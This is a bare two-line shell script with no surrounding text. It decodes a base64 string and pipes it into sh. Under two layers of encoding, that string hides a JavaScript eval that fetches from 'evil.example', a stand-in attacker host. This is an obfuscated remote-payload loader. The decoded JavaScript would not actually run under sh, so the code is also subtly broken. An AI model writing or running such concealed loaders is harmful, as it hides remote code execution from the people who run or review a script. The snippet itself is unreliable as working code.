#!/bin/sh
echo ZXZhbChhdG9iKCJabVYwWTJnb0oyaDBkSEJ6T2k4dlpYWnBiQzVsZUdGdGNHeGxMM01uS1E9PSIpKQ== | base64 -d | sh
